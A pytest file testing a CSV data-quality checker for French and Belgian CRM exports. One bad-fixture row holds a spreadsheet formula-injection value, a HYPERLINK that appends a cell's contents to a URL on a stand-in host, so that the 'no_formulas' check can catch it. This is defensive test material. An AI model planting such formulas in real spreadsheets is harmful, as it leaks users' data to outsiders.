"""`enrich check`: every check kind passes on a good export and fails on a bad one with its
message and exit code; JUnit output validates against a JUnit schema; GitHub annotations
point at file lines; checks-file mistakes are reported with their line."""

import json
from pathlib import Path

import polars as pl
import pytest
import xmlschema

HEADER = "Raison sociale;Nom;Prénom;N° TVA;Pays;E-mail;Téléphone;Effectif;Code postal;Désinscrit;Date de mise à jour"
# A clean export as a CRM writes it: ';', cp1252, French headers, valid numbers.
GOOD = [
    "Brouwerij De Smet NV;De Smet;Pieter;BE 0403.170.701;Belgique;pieter.desmet@desmet-brouwerij.be;+32 9 222 11 33;45;9000;non;12/10/2026",
    "Dupont, Fils & Cie SA;Dupont;Marie;BE0417497106;Belgique;m.dupont@dupont-fils.be;04 223 45 67;8;4000;oui;03/11/2026",
    "Vandenberghe Logistics BV;Vandenberghe;Koen;BE0765432146;BE;koen@vdb-logistics.be;+32 3 541 22 10;310;2000;non;20/09/2026",
    "Laboratoires Mercier SA;Mercier;Anne;FR40303265045;France;anne.mercier@labo-mercier.fr;01 42 68 53 00;120;69003;non;15/10/2026",
    "Girard Logiciels SAS;Girard;Michel;FR11123456782;FR;michel.girard@girard-logiciels.fr;04 78 62 11 90;25;69002;non;01/11/2026",
    "Société Générale d'Électricité;Lambert;Claire;FR27552120222;France;c.lambert@sge-elec.fr;01 53 43 87 00;1500;75009;non;28/10/2026",
]
BAD_HEADER = HEADER.replace(";Désinscrit", "").replace(
    "Code postal", "Code postal;Date de naissance"
)
BAD = [
    "Brouwerij De Smet NV;De Smet;Pieter;BE 0403.170.701;Belgique;pieter.desmet@desmet-brouwerij.be;+32 9 222 11 33;45;9000;01/02/1971;12/10/2021",
    "Dupont, Fils & Cie SA;Dupont;Marie;BE0417497107;Belgique;m.dupont@dupont-fils;04 223 45 67;dix;4000;;03/11/2021",
    '=HYPERLINK("http://x.example/?"&A1,"Vandenberghe");Vandenberghe;Koen;BE0765432146;BE;koen@vdb-logistics.be;12;310;2000;;20/09/2021',
    "Laboratoires Mercier SA;Mercier;Anne;;Espagne;anne.mercier@labo-mercier.fr;01 42 68 53 00;120;69O03;;15/10/2021",
    "Girard Logiciels SAS;Girard;Michel;FR11123456783;FR;michel.girard@girard-logiciels.fr;04 78 62 11 90;25;69002;;01/11/2021",
    "Girard Logiciels SAS;Girard;Michel;FR11123456782;FR;MICHEL.GIRARD@girard-logiciels.fr;04 78 62 11 90;25;69002;;01/11/2021",
    "Société Générale d'Électricité;Lambert;Claire;;France;c.lambert@sge-elec.fr;01 53 43 87 00;1500;75009;;28/10/2021;en trop",
    "Ateliers Nicolas SRL;Nicolas;Luc;BE0845678068;BE;luc@ateliers-nicolas.be;+32 2 511 20 30;4;1000;;05/06/2022",
]
RULES = """
[[check]]
kind = "readable_rows"

[[check]]
kind = "required_columns"
columns = ["company_name", "email", "Désinscrit"]

[[check]]
kind = "forbidden_columns"
columns = ["date de naissance", "rijksregisternummer"]

[[check]]
kind = "pattern"
column = "postcode"
regex = "\\\\d{4,5}"

[[check]]
kind = "type"
column = "Effectif"
type = "integer"

[[check]]
kind = "unique"
columns = ["email"]

[[check]]
kind = "valid_vat_rate"
min = 0.9

[[check]]
kind = "valid_email_rate"
min = 0.9

[[check]]
kind = "valid_phone_rate"
min = 0.9

[[check]]
kind = "filled_rate"
column = "vat"
min = 0.9

[[check]]
kind = "duplicate_rate"
max = 0.1

[[check]]
kind = "allowed_values"
column = "country"
values = ["BE", "FR", "NL", "LU", "DE"]

[[check]]
kind = "row_count"
min = 1
max_change = 0.2

[[check]]
kind = "freshness"
max_age_days = 365

[[check]]
kind = "opt_out"

[[check]]
kind = "no_formulas"
"""
# kind → what the bad file's failure says (and, for row checks, the rows it names)
FAILS = {
    "readable_rows": ("1 row the reader rejected (1 × ragged row", [7]),
    "required_columns": ("missing: Désinscrit", []),
    "forbidden_columns": ("forbidden column present: Date de naissance", []),
    "pattern": ("1 row where 'Code postal' does not match the pattern", [4]),
    "type": ("1 row where 'Effectif' is not an integer", [2]),
    "unique": ("1 row repeating an earlier row's E-mail", [6]),
    "valid_vat_rate": ("66.7% of filled VAT numbers are valid (4 of 6); 2 invalid", [2, 5]),
    "valid_email_rate": ("85.7% of filled e-mail addresses are valid (6 of 7); 1 invalid", [2]),
    "valid_phone_rate": (
        "71.4% of filled phone numbers are valid (5 of 7); 2 invalid",
        [3, 4],
    ),  # 4: a French number in Spain
    "filled_rate": ("85.7% of rows fill 'N° TVA'; 1 empty", []),
    "duplicate_rate": ("14.3% of contact rows duplicate an earlier one (1 of 7", [6]),
    "allowed_values": ("1 row where 'Pays' is not among BE, FR, NL, LU, DE", [4]),
    "row_count": ("8 rows, +2 (33.3%) against the baseline's 6: changed by more than 20%", []),
    "freshness": (
        "the newest 'Date de mise à jour' is 2022-06-05, 1636 days before 2026-11-27",
        [],
    ),
    "opt_out": ("no opt-out column", []),
    "no_formulas": ("1 cell starting like a formula", [3]),
}


@pytest.fixture
def files(tmp_path):
    good, bad, rules = tmp_path / "crm_good.csv", tmp_path / "crm_bad.csv", tmp_path / "checks.toml"
    good.write_bytes(("\r\n".join([HEADER, *GOOD]) + "\r\n").encode("cp1252"))
    bad.write_bytes(("\r\n".join([BAD_HEADER, *BAD]) + "\r\n").encode("cp1252"))
    rules.write_text(RULES, encoding="utf-8")
    return good, bad, rules


def check(run_cli, *args):
    return run_cli("check", *args, "--as-of", "2026-11-27")


def test_every_check_kind_passes_on_a_good_export(run_cli, files):
    good, _, rules = files
    result = check(run_cli, good, "--checks", rules, "--baseline", good, "--report-format", "json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert {r["kind"] for r in report["results"]} == set(FAILS)  # every kind ran
    assert [r["check"] for r in report["results"] if r["status"] != "passed"] == []
    assert report["summary"]["errors"] == 0


def test_every_check_kind_fails_on_a_bad_export_with_its_message_and_rows(run_cli, files):
    good, bad, rules = files
    result = check(run_cli, bad, "--checks", rules, "--baseline", good, "--report-format", "json")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    by_kind = {r["kind"]: r for r in report["results"]}
    for kind, (message, rows) in FAILS.items():
        got = by_kind[kind]
        assert got["status"] == "failed", (kind, got["message"])
        assert message in got["message"], (kind, got["message"])
        assert [e["row"] for e in got["examples"]] == rows, kind
    line = {e["row"]: e["line"] for r in report["results"] for e in r["examples"]}
    assert line[3] == 4 and line[7] == 8  # the file line of a data row: header + row
    assert (
        "anne.mercier" not in result.stdout and "69O03" not in result.stdout
    )  # rows named, values never shown


def test_a_warning_is_reported_but_does_not_fail_unless_strict(run_cli, files, tmp_path):
    _, bad, _ = files
    rules = tmp_path / "warn.toml"
    rules.write_text('[[check]]\nkind = "no_formulas"\nseverity = "warning"\n', encoding="utf-8")
    result = check(run_cli, bad, "--checks", rules)
    assert (
        result.exit_code == 0
        and "WARN" in result.stdout
        and "row 3, line 4, column Raison sociale" in result.stdout
    )
    assert check(run_cli, bad, "--checks", rules, "--strict").exit_code == 1


JUNIT_XSD = Path(__file__).with_name("junit.xsd")


def test_junit_output_validates_and_counts_failures(run_cli, files, tmp_path):
    good, bad, rules = files
    out = tmp_path / "results.xml"
    result = check(
        run_cli,
        good,
        bad,
        tmp_path / "missing.csv",
        "--checks",
        rules,
        "--report-format",
        "junit",
        "-o",
        out,
    )
    assert result.exit_code == 2  # an unreadable input: usage error, the others still reported
    schema = xmlschema.XMLSchema(str(JUNIT_XSD))
    schema.validate(str(out))  # raises if not JUnit XML
    tree = schema.to_dict(str(out))
    suites = {s["@name"]: s for s in tree["testsuite"]}
    assert (
        suites[str(bad)]["@failures"] == len(FAILS) - 1
    )  # row_count has no baseline here: min only, passes
    assert suites[str(good)]["@failures"] == 0 and suites[str(good)]["@tests"] == len(FAILS)
    assert suites[str(tmp_path / "missing.csv")]["@errors"] == 1
    assert tree["@failures"] == len(FAILS) - 1


def test_github_annotations_name_file_and_line(run_cli, files):
    _, bad, rules = files
    result = check(run_cli, bad, "--checks", rules, "--report-format", "github")
    assert result.exit_code == 1
    lines = result.stdout.splitlines()
    assert f"::error file={bad},line=4,title=no_formulas::row 3, column Raison sociale" in lines
    assert any(
        line.startswith(f"::error file={bad},line=1,title=forbidden_columns") for line in lines
    )  # the header line
    assert all(line.startswith("::error ") for line in lines)


def test_the_default_rules_and_the_shipped_fixtures(run_cli, fixtures):
    result = check(run_cli, fixtures / "crm_export.csv", "--skip", "duplicate_rate")
    assert result.exit_code == 0, result.output  # the CRM export is clean: warnings only
    assert "WARN" in result.stdout and "one row per e-mail" in result.stdout
    result = check(
        run_cli,
        fixtures / "purchased_list_fr.csv",
        "--report-format",
        "json",
        "--max-examples",
        "2",
    )
    assert result.exit_code == 1
    failed = {r["kind"]: r for r in json.loads(result.stdout)["results"] if r["status"] == "failed"}
    assert {"readable_rows", "no_formulas", "valid_vat_rate"} <= set(failed)
    assert (
        len(failed["valid_vat_rate"]["examples"]) == 2 and failed["valid_vat_rate"]["failing"] == 6
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            '[[check]]\nkind = "valid_vat_rate"\nmin = 0.95\n\n[[check]]\nkind = "vat_rate"\n',
            "line 6: unknown check kind 'vat_rate'",
        ),
        (
            '[[check]]\nkind = "duplicate_rate"\nmax = 2\n',
            "line 3: max must be a rate between 0 and 1, got 2",
        ),
        (
            '[[check]]\nkind = "valid_email_rate"\nmin = "95%"\n',
            "line 3: min must be a rate between 0 and 1",
        ),
        ('[[check]]\nkind = "unique"\n', "line 1: a unique check needs 'columns'"),
        (
            '[[check]]\nkind = "pattern"\ncolumn = "postcode"\nregex = "(\\\\d"\n',
            "line 4: regex must be a regular expression",
        ),
        (
            '[[check]]\nkind = "no_formulas"\nseverity = "fatal"\n',
            "line 3: severity must be 'error' or 'warning'",
        ),
        (
            '[[check]]\nkind = "row_count"\nminimum = 10\n',
            "line 3: unknown setting 'minimum' for a row_count check",
        ),
        ('[[check]\nkind = "no_formulas"\n', "not valid TOML"),
    ],
)
def test_checks_file_mistakes_name_the_line(run_cli, fixtures, tmp_path, text, message):
    rules = tmp_path / "checks.toml"
    rules.write_text(text, encoding="utf-8")
    result = check(run_cli, fixtures / "crm_export.csv", "--checks", rules)
    assert result.exit_code == 2
    assert f"{rules}: {message}" in result.output, result.output
    assert "Traceback" not in result.output


def test_usage_errors_exit_2(run_cli, fixtures, tmp_path):
    assert check(run_cli, fixtures / "crm_export.csv", "--skip", "nonsense").exit_code == 2
    assert run_cli("check", fixtures / "crm_export.csv", "--as-of", "27/11/2026").exit_code == 2
    binary = tmp_path / "photo.csv"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
    result = check(run_cli, binary)
    assert result.exit_code == 2 and "binary file" in result.output
    result = check(run_cli, fixtures / "crm_export.csv", "-o", fixtures / "crm_export.csv")
    assert result.exit_code == 2  # never overwrites an input


def test_a_checked_file_is_never_changed(run_cli, files):
    good, bad, rules = files
    before = bad.read_bytes()
    check(run_cli, bad, "--checks", rules)
    assert bad.read_bytes() == before
    frame = pl.read_csv(good, separator=";", encoding="cp1252", infer_schema=False)
    assert frame.height == len(GOOD)


def test_allowed_legal_forms_are_read_as_codes(run_cli, tmp_path):
    data = tmp_path / "forms.csv"
    data.write_text(
        "Raison sociale;Forme juridique;Pays\nA;S.A.;France\nB;Société anonyme;FR\nC;BVBA;Belgique\nD;Ltd;UK\nE;;FR\n"
        "F;xyz;BE\n",
        encoding="utf-8",
    )
    rules = tmp_path / "forms.toml"
    rules.write_text(
        '[[check]]\nkind = "allowed_values"\ncolumn = "legal_form"\nvalues = ["SA", "BE-SPRL"]\n',
        encoding="utf-8",
    )
    result = check(run_cli, data, "--checks", rules, "--report-format", "json")
    got = json.loads(result.stdout)["results"][0]
    assert result.exit_code == 1 and [e["row"] for e in got["examples"]] == [
        4,
        6,
    ]  # Ltd and xyz; the empty one is not checked
    assert got["message"].startswith("2 rows where 'Forme juridique' is not among SA, BE-SPRL")


def test_a_check_runs_only_on_the_files_it_names(run_cli, files, tmp_path):
    good, bad, _ = files
    rules = tmp_path / "scoped.toml"
    rules.write_text(
        '[[check]]\nkind = "no_formulas"\nfiles = ["*_bad.csv"]\n\n[[check]]\nkind = "row_count"\nmin = 7\n'
        'files = ["crm_good.*"]\n',
        encoding="utf-8",
    )
    report = json.loads(
        check(run_cli, good, bad, "--checks", rules, "--report-format", "json").stdout
    )
    ran = sorted((Path(r["file"]).name, r["kind"], r["status"]) for r in report["results"])
    assert ran == [
        ("crm_bad.csv", "no_formulas", "failed"),
        ("crm_good.csv", "row_count", "failed"),
    ]
    rules.write_text('[[check]]\nkind = "no_formulas"\nfiles = "*.csv"\n', encoding="utf-8")
    result = check(run_cli, good, "--checks", rules)
    assert result.exit_code == 2 and "line 3: files must be a list of names" in result.output


def test_every_broken_fixture_gets_a_verdict_never_a_crash(run_cli, fixtures):
    """fixtures/bad: binary, empty, corrupt workbooks, ragged rows, huge fields, formulas …
    each is either checked (exit 0/1) or reported unreadable (exit 2) in one line."""
    for path in sorted((fixtures / "bad").iterdir()):
        result = check(run_cli, path, "--skip", "duplicate_rate")
        assert result.exit_code in (0, 1, 2), (path.name, result.output)
        assert "internal error" not in result.output and "Traceback" not in result.output, path.name
        if result.exit_code == 2:
            assert f"enrich: error: {path}" in result.output, path.name
    result = check(run_cli, fixtures / "bad" / "formula_injection.csv", "--report-format", "json")
    failed = {r["kind"] for r in json.loads(result.stdout)["results"] if r["status"] == "failed"}
    assert "no_formulas" in failed


def test_lines_are_counted_past_excel_s_sep_line_a_title_and_quoted_line_breaks(run_cli, tmp_path):
    data = tmp_path / "export.csv"
    data.write_bytes(
        'sep=;\r\nExport du 12/03/2024\r\n\r\nNom;E-mail;Pays\r\nA;a@x.be;BE\r\nB;"multi\r\nline";BE\r\nC;c@@x;BE\r\n'.encode(
            "cp1252"
        )
    )
    result = check(run_cli, data, "--skip", "duplicate_rate", "--report-format", "github")
    lines = result.stdout.splitlines()
    assert (
        f"::error file={data},line=6,title=valid_email_rate >= 0.95::row 2, column E-mail" in lines
    )  # "multi\nline" starts on line 6
    assert (
        f"::error file={data},line=8,title=valid_email_rate >= 0.95::row 3, column E-mail" in lines
    )
